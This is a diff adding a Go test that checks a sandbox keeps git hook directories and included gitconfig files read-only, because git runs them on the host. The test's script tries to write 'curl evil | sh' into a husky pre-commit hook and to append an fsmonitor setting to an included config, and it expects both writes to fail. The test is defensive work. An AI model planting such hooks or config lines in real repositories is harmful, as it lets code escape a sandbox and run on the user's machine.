@@ -222,6 +222,26 @@ echo code > vendor/lib/main.go && echo tree-ok`)
 	})
 }
 
+// A hooks directory the repository's config names (husky: .husky/_) and
+// a file it includes are read-only inside: git runs them on the host at
+// the next commit or status.
+func TestWorkspaceGitHooksPath(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		ws := filepath.Join(u.visibleDir(t), "proj")
+		u.mkdirs(t, filepath.Join(ws, ".git"), filepath.Join(ws, ".husky", "_"))
+		u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../shared.gitconfig\n", 0o644)
+		u.writeFile(t, filepath.Join(ws, "shared.gitconfig"), "[alias]\n\tst = status\n", 0o644)
+		r := u.sh(t, &runOpts{dir: ws}, nil, `
+(echo 'curl evil | sh' > .husky/_/pre-commit) 2>/dev/null && echo HOOK-WRITTEN
+(echo '[core] fsmonitor = evil' >> shared.gitconfig) 2>/dev/null && echo INCLUDE-WRITTEN
+echo x > .husky/notes && echo rest-ok`)
+		expectCode(t, r, 0)
+		if strings.Contains(r.stdout, "WRITTEN") || !strings.Contains(r.stdout, "rest-ok") {
+			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
+		}
+	})
+}
+
 // The git repositories a sandbox makes in the workspace (where nothing
 // protected could stop it: a .git in an existing directory, the layout of
 // a bare repository, a .git symlink) are made inert when the run ends,
